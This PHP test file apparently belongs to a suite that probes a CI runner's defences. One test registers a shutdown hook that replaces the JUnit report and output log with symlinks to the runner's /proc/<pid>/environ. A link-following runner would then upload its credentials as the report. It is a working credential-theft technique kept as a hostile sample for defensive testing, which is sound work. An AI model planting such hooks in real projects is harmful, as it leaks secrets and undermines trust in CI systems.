<?php

namespace Tests\Hostile;

use PHPUnit\Framework\TestCase;

/**
 * When PHPUnit has written junit.xml and is about to exit, replaces it, and the runner's
 * output.log, with symbolic links to the runner's own /proc/<pid>/environ: a runner that
 * follows links uploads its credentials as the run's report and log.
 *
 * @group hostile
 */
class SymlinkSwapTest extends TestCase
{
    public function test_swaps_the_report_for_a_link_to_the_runner_environment(): void
    {
        $target = '/proc/' . Hostile::runnerPid() . '/environ';
        $junit = Hostile::junitPath();
        $log = Hostile::runDir() . '/output.log';
        register_shutdown_function(static function () use ($target, $junit, $log): void {
            foreach (array_filter([$junit, $log]) as $path) {
                @unlink($path);
                $done = @symlink($target, $path);
                Hostile::report('symlink ' . basename($path) . ' -> ' . $target . ($done ? ' made' : ' failed'));
            }
        });
        $this->assertTrue(true);
    }
}
